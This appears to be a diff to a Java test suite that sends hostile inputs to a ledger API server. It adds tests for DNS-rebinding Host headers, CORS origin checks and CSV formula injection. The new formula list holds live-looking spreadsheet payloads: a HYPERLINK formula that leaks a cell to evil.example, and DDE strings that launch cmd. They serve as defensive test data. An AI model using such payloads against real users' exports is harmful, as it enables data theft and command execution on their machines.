@@ -36,12 +36,13 @@ import org.powledger.domain.model.AccessScope;
 class HostileInputTest {
 
     /** How many requests the suite sends and how many kinds they fall in: quoted in reports, checked below. */
-    static final int REQUESTS = 3200;
+    static final int REQUESTS = 3243;
     static final List<String> KINDS = List.of("wrong-type", "number", "nesting", "long-string", "utf-8",
             "duplicate-key", "null-and-shape", "injection", "path-trick", "oversized", "content-type",
-            "query-parameter", "header", "import", "raw-socket", "smuggling");
+            "query-parameter", "header", "import", "raw-socket", "smuggling", "host", "cors", "formula");
 
     private static final ObjectMapper JSON = new ObjectMapper();
+    private static final String APP_ORIGIN = "https://app.example";
     private static final String API = "/api/v1";
     private static final Set<String> READ_ONLY = Set.of("/id", "/unattributed", "/version", "/createdAt", "/updatedAt");
 
@@ -175,7 +176,8 @@ class HostileInputTest {
 
     @BeforeAll
     static void start() throws Exception {
-        server = Server.start(dir.resolve("hostile.db").toString(), "127.0.0.1", 0, false);
+        server = Server.start(dir.resolve("hostile.db").toString(), "127.0.0.1", 0, false, List.of(),
+                List.of(APP_ORIGIN));
         http = new RawHttp(server.port());
         writeToken = server.ledger().tokens.create("hostile-writer", AccessScope.WRITE);
         readToken = server.ledger().tokens.create("hostile-reader", AccessScope.READ);
@@ -223,6 +225,9 @@ class HostileInputTest {
         imports();
         rawSocket();
         smuggling();
+        hostNames();
+        crossOrigin();
+        formulas();
 
         int sent = sentByKind.values().stream().mapToInt(Integer::intValue).sum();
         System.out.printf("hostile input: %d requests of %d kinds in %d ms; %d accepted (valid despite hostile text), "
@@ -1054,6 +1059,91 @@ class HostileInputTest {
                 judge("smuggling " + smuggling[0], answers.get(0), anyCleanStatus(), false);
                 if (answers.get(0).text().contains("smuggled")) {
                     failures.add("smuggling " + smuggling[0] + ": the body's request was answered");
+                }
+            }
+        }
+    }
+
+    /** The server listens on loopback: a name a rebinding page would send is 421, a loopback name served. */
+    private void hostNames() {
+        List<String> foreign = List.of("evil.example", "evil.example:" + server.port(), "127.0.0.1.evil.example",
+                "localhost.evil.example", "127.0.0.2", "0.0.0.0", "[::2]", "local%68ost", "xn--localhost-",
+                "LOCALHOST.", "169.254.169.254", "evil.example\t");
+        for (String host : foreign) {
+            sentByKind.merge("host", 1, Integer::sum);
+            List<String[]> headers = RawHttp.headers();
+            headers.add(new String[] {"Host", host});
+            headers.add(new String[] {"Connection", "close"});
+            RawHttp.Response r = http.send(RawHttp.head("GET " + API + "/exchanges HTTP/1.1", headers), null, false);
+            judge("host " + host, r, is(400, 421), false);
+        }
+        for (String host : List.of("localhost", "127.0.0.1", "[::1]:" + server.port())) {
+            sentByKind.merge("host", 1, Integer::sum);
+            List<String[]> headers = RawHttp.headers();
+            headers.add(new String[] {"Host", host});
+            headers.add(new String[] {"Connection", "close"});
+            judge("host " + host, http.send(RawHttp.head("GET " + API + "/units HTTP/1.1", headers), null, false),
+                    is(200), false);
+        }
+    }
+
+    /** Only the app origin may call from a browser: other preflights are refused, other answers not shared. */
+    private void crossOrigin() {
+        List<String> origins = List.of("https://evil.example", "null", "https://app.example.evil.example",
+                "http://app.example", "https://APP.example", APP_ORIGIN + ".", APP_ORIGIN + ":443", "*", "");
+        for (String origin : origins) {
+            sentByKind.merge("cors", 1, Integer::sum);
+            RawHttp.Response preflight = probeOrigin("OPTIONS", origin, true);
+            judge("cors preflight from " + origin, preflight, is(403), false);
+            if (preflight.header("Access-Control-Allow-Origin") != null) {
+                failures.add("cors preflight from " + origin + ": allowed");
+            }
+            sentByKind.merge("cors", 1, Integer::sum);
+            RawHttp.Response read = probeOrigin("GET", origin, false);
+            judge("cors read from " + origin, read, is(200), false);
+            if (read.header("Access-Control-Allow-Origin") != null) {
+                failures.add("cors read from " + origin + ": shared with the page");
+            }
+        }
+        sentByKind.merge("cors", 1, Integer::sum);
+        RawHttp.Response allowed = probeOrigin("OPTIONS", APP_ORIGIN, true);
+        judge("cors preflight from the app", allowed, is(204), false);
+        if (!APP_ORIGIN.equals(allowed.header("Access-Control-Allow-Origin"))) {
+            failures.add("cors preflight from the app: not allowed");
+        }
+    }
+
+    private RawHttp.Response probeOrigin(String method, String origin, boolean preflight) {
+        List<String[]> headers = RawHttp.headers();
+        headers.add(new String[] {"Host", "127.0.0.1:" + server.port()});
+        headers.add(new String[] {"Connection", "close"});
+        headers.add(new String[] {"Origin", origin});
+        if (preflight) {
+            headers.add(new String[] {"Access-Control-Request-Method", "DELETE"});
+            headers.add(new String[] {"Access-Control-Request-Headers", "authorization"});
+        }
+        return http.send(RawHttp.head(method + " " + API + "/units HTTP/1.1", headers), null, false);
+    }
+
+    /** Texts a spreadsheet would run are stored as they are and come out of every CSV answer defused. */
+    private void formulas() throws Exception {
+        List<String> formulas = List.of("=HYPERLINK(\"https://evil.example/?\"&A1,\"x\")", "+cmd|' /C calc'!A0",
+                "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=1+1");
+        for (String formula : formulas) {
+            ObjectNode body = exchange();
+            body.put("ref", "formula-" + (++sequence) + formula);
+            body.put("notes", formula);
+            body.putArray("mediators").add(formula);
+            probe("formula", "exchange " + formula, request("POST", API + "/exchanges", body.toString()), is(201));
+        }
+        for (String csv : List.of(API + "/exchanges?format=csv", API + "/exchanges?format=csv&limit=500")) {
+            sentByKind.merge("formula", 1, Integer::sum);
+            RawHttp.Response r = http.send(request("GET", csv, (String) null).head(), null, false);
+            judge("formula " + csv, r, is(200), false);
+            for (String formula : formulas) {
+                if (r.text().contains("," + formula) || r.text().contains(",\"" + formula)
+                        || r.text().startsWith(formula)) {
+                    failures.add("formula " + csv + ": a cell begins with " + shorten(formula));
                 }
             }
         }
